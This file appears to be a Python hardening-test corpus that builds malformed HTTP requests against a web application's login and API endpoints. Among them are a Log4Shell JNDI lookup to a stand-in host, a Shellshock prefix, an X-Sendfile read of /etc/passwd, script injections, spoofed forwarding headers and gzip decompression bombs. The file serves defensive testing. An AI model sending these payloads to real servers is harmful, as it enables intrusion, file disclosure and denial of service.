"""Headers that servers and the application act on."""

import gzip
import zlib
from collections.abc import Iterator

from tests.hardening.corpus.message import (
    FORM,
    HIDDEN,
    JSON,
    End,
    Message,
    Verdict,
    get,
    post,
    put_length,
    write_lines,
)

BOMB = b"a" * 10_000_000
PART = b"--b\r\nContent-Disposition: form-data; "
MANY = 2000
LOGIN = "/auth/login"
API = "/api/v1/entities"

# Of each header what is broken, rare, or more than anybody needs; all are asked for on a page.
ODD: dict[str, list[str]] = {
    "Range": [
        "bytes=-1",
        "bytes=5-2",
        "bytes=0-99999999999999999999",
        "bytes=99999999999999999999-",
        "bytes=abc",
        "bytes=",
        "lines=0-1",
        "bytes=0-0, 0-0",
        "bytes=" + ",".join(["0-"] * MANY),
        "bytes=" + ",".join(f"{n}-{n}" for n in range(1000)),
    ],
    "If-Range": ['"a"', "Thu, 99 Foo 2099 00:00:00 GMT", "\xff"],
    "If-None-Match": ["*", '"', 'W/"', "a" * 6000, ", ".join(['"a"'] * 1000), "\xff"],
    "If-Match": ["*", '"', "\xff"],
    "If-Modified-Since": ["0", "Thu, 99 Foo 2099 00:00:00 GMT", "9" * 100, "\xff"],
    "If-Unmodified-Since": ["0", "Thu, 01 Jan 99999 00:00:00 GMT"],
    "Accept": ["", "*", "/", "text/html;q=nan", "text/html;q=-1", "a/b," * 1500, "\xff", ";;;"],
    "Accept-Language": ["*", "ru;q=abc", "-", "a" * 5000, "ru," * 2000, "\xff", "ru-\xff;q=1"],
    "Accept-Encoding": ["", "gzip;q=9", "\xff", "identity;q=0, *;q=0"],
    "Accept-Charset": ["\xff", "utf-7"],
    "Authorization": [
        "",
        "Bearer",
        "Bearer ",
        "Bearer \xff",
        "Basic \xff",
        "Basic Og==",
        "Digest a",
    ],
    "Cookie": [
        "",
        "=",
        ";;;;",
        "a",
        'a="\\',
        'a="\\000"',
        'a="\\377\\376"',
        "a=\xff",
        "__Host-session=\xff",
        "__Host-session=" + "a." * 2000,
        "__Host-session=eyJhIjoxfQ.aaaaaa.aaaaaaaaaaaaaaaaaaaaaaaaaaa",
        "QUART_AUTH=a; __Host-auth=b",
        ";".join(f"c{n}=v" for n in range(900)),
        "; ".join(["__Host-session=a"] * 200),
        "$Version=1; a=b; $Path=/",
    ],
    "Content-Type": ["", "/", "text", "text/html; charset=\xff", "multipart/form-data", "a" * 5000],
    "Origin": ["null", "\xff", "http://", "http://[", "https://localhost@evil.test"],
    "Referer": ["\xff", "http://[", "javascript:alert(1)"],
    "User-Agent": ["", "\xff" * 100, "${jndi:ldap://evil.test/a}", "() { :;}; echo", "a" * 7000],
    "X-Request-ID": ["", "a", "a" * 65, "\xff" * 8, "../../etc", "abcd efgh", "<script>"],
    "X-Forwarded-For": [
        "<script>",
        "203.0.113.1",
        "::1%a",
        "a," * 3000,
        "\xff",
        "127.0.0.1, 1.1.1.1",
    ],
    "X-Forwarded-Proto": ["javascript", "https, http", "\xff"],
    "X-Forwarded-Host": ["evil.test", "localhost/evil", "\xff", "evil.test, localhost"],
    "X-Forwarded-Port": ["1", "x"],
    "X-Forwarded-Prefix": ["/evil", "//evil.test"],
    "X-Real-IP": ["203.0.113.1"],
    "Forwarded": ["for=203.0.113.1;host=evil.test;proto=javascript", "\xff"],
    "X-Original-URL": ["/metrics"],
    "X-Rewrite-URL": ["/metrics"],
    "X-HTTP-Method-Override": ["DELETE"],
    "X-Accel-Redirect": ["/metrics"],
    "X-Sendfile": ["/etc/passwd"],
    "Proxy": ["http://evil.test"],
    "Max-Forwards": ["0", "-1", "x"],
    "TE": ["trailers", "chunked", "\xff"],
    "Trailer": ["Content-Length", "\xff"],
    "Via": ["1.1 a" + ", 1.1 a" * 500],
    "Connection": [
        "close, X-Request-ID",
        "close, Host, X-Forwarded-For, X-Forwarded-Host, X-Forwarded-Proto",
        "close, Cookie, Authorization, Content-Length, Transfer-Encoding",
        "keep-alive, close",
        "upgrade",
        "Upgrade, HTTP2-Settings",
        "\xff",
        ",",
        ", ".join(["close"] * 1000),
    ],
    "Keep-Alive": ["timeout=-1, max=0", "\xff"],
    "Proxy-Connection": ["keep-alive"],
    "Upgrade": ["h2c", "TLS/1.0", "HTTP/2.0", "foo/2", "\xff", "websocket, h2c"],
    "Sec-Fetch-Site": ["cross-site", "\xff"],
    "X-CSRFToken": ["\xff", "a" * 5000],
    "Idempotency-Key": ["", "\xff", "a" * 5000],
}


def say_odd_things() -> Iterator[Message]:
    for name, values in ODD.items():
        for value in values:
            for target in (LOGIN, API) if name != "Range" else ("/static/app.css", LOGIN):
                data = get(target, f"{name}: {value}")
                yield Message(f"{name}: {value[:40]!r} to {target}", data, Verdict.ANSWERED)
    for name in ("Authorization", "Cookie", "Content-Type", "Accept", "Origin", "X-Request-ID"):
        yield Message(f"{name} twice", get(LOGIN, f"{name}: a=b", f"{name}: c=d"))


def expect() -> Iterator[Message]:
    for value in (
        "100-continue",
        "100-CONTINUE",
        "100-continue, 100-continue",
        "200-ok",
        "",
        "\xff",
    ):
        data = post(put_length(b"hello"), f"Expect: {value}", body=b"hello")
        yield Message(f"Expect: {value!r}", data)
        yield Message(f"Expect: {value!r} without a body", get("/livez", f"Expect: {value}"))
    twice = ["Expect: 100-continue"] * 2
    yield Message("Expect twice", post(put_length(b"a"), *twice, body=b"a"))
    old = write_lines("POST /hardening/body HTTP/1.0", "Content-Length: 1", *twice[:1]) + b"a"
    yield Message("Expect of HTTP/1.0", old)
    waiting = post("Content-Length: 5", "Expect: 100-continue")
    yield Message("Expect, and nothing more", waiting, end=End.CLOSE)


def send_bodies() -> Iterator[Message]:
    """Bodies that are more than they seem, or not what they say."""
    bombs = {
        "gzip": gzip.compress(BOMB),
        "deflate": zlib.compress(BOMB),
        "gzip, gzip": gzip.compress(gzip.compress(BOMB)),
        "br": b"\xce\xff",
        "identity": b"{}",
        "x": b"{}",
    }
    for coding, body in bombs.items():
        for kind, target in ((FORM, LOGIN), (JSON, "/api/v1/setup")):
            lines = (kind, f"Content-Encoding: {coding}", put_length(body))
            data = post(*lines, body=body, target=target)
            yield Message(f"a body in {coding} to {target}", data, Verdict.ANSWERED)
    multipart = "multipart/form-data"
    for kind, body in {
        multipart: b"--b\r\n\r\n--b--",
        f"{multipart}; boundary=": b"----",
        f"{multipart}; boundary={'b' * 1000}": b"--" + b"b" * 1000,
        f"{multipart}; boundary=\xff": b"--\xff\r\n",
        f"{multipart}; boundary=b": PART + b"name=\xff\r\n\r\na\r\n--b--",
        f'{multipart}; boundary="b"': b"--b\r\n" + b"X: y\r\n" * 10_000 + b"\r\n--b--",
        f"{multipart}; boundary=b;": b"--b\r\nContent-Disposition: form-data; name=a\r\n\r\n"
        * 5000,
        f"{multipart};boundary=b": b"--b\r\nContent-Disposition: x"
        + b"; a=b" * 20_000
        + b"\r\n\r\n",
        f"{multipart}; charset=zlib; boundary=b": b"--b--",
        "application/x-www-form-urlencoded; charset=utf-7": b"name=+AAA-",
        "application/x-www-form-urlencoded; charset=zlib": b"name=a",
        "application/x-www-form-urlencoded;": b"&" * 500_000,
        "application/x-www-form-urlencoded; a": b"%" * 100_000,
        "application/x-www-form-urlencoded; b": b"name=%ff%00&password=%ed%a0%80",
        "application/json; charset=utf-16": b"\xff\xfe{\0}\0",
        "application/json; charset=\xff": b"{}",
        "application/json": b"[" * 500_000,
        "application/json;": b'{"name": "\\ud800", "token": "\\u0000"}',
    }.items():
        for target in (LOGIN, "/api/v1/setup"):
            data = post(f"Content-Type: {kind}", put_length(body), body=body, target=target)
            yield Message(f"{kind[:60]!r} to {target}", data, Verdict.ANSWERED)


def upgrade() -> Iterator[Message]:
    key = "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ=="
    ws = ["Upgrade: websocket", "Connection: Upgrade"]
    thirteen = "Sec-WebSocket-Version: 13"
    settings = "HTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA"
    h2c = get("/livez", "Upgrade: h2c", "Connection: Upgrade, HTTP2-Settings", settings)
    preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
    yield Message("h2c", h2c + preface, end=End.WAIT)
    yield Message("h2c without settings", get("/livez", "Upgrade: h2c", "Connection: Upgrade"))
    yield Message(
        "h2c with a body", post("Upgrade: h2c", settings, put_length(HIDDEN), body=HIDDEN)
    )
    yield Message("HTTP/2 that is assumed", preface + bytes(9), Verdict.REFUSED, End.WAIT)
    socket = "/api/v1/live"
    for name, lines in {
        "no key": [*ws, thirteen],
        "no version": [*ws, key],
        "version 12": [*ws, key, "Sec-WebSocket-Version: 12"],
        "version \xff": [*ws, key, "Sec-WebSocket-Version: \xff"],
        "a key that is none": [*ws, thirteen, "Sec-WebSocket-Key: \xff"],
        "no credentials": [*ws, key, thirteen],
        "an extension that is none": [*ws, key, thirteen, "Sec-WebSocket-Extensions: \xff;;="],
        "deflate with odd windows": [
            *ws,
            key,
            thirteen,
            "Sec-WebSocket-Extensions: permessage-deflate; server_max_window_bits=99",
        ],
        "a subprotocol that is none": [*ws, key, thirteen, "Sec-WebSocket-Protocol: \xff"],
        "1,000 subprotocols": [*ws, key, thirteen, "Sec-WebSocket-Protocol: " + "a," * 1000],
        "an odd connection": [ws[0], "Connection: Upgrade, \xff", key, thirteen],
        "two upgrades": [*ws, "Upgrade: h2c", key, thirteen],
        "a body": [*ws, key, thirteen, put_length(HIDDEN)],
    }.items():
        for target in (socket, "/hardening/echo", "/livez", "/nowhere"):
            body = HIDDEN if name == "a body" else b""
            yield Message(f"a socket to {target}, {name}", get(target, *lines) + body, end=End.WAIT)
    for old in ("POST /hardening/echo HTTP/1.1", "GET /hardening/echo HTTP/1.0"):
        data = write_lines(old, "Host: localhost", *ws, key, thirteen)
        yield Message(f"a socket by {old}", data, end=End.WAIT)


def head() -> list[Message]:
    return [*say_odd_things(), *expect(), *send_bodies()]
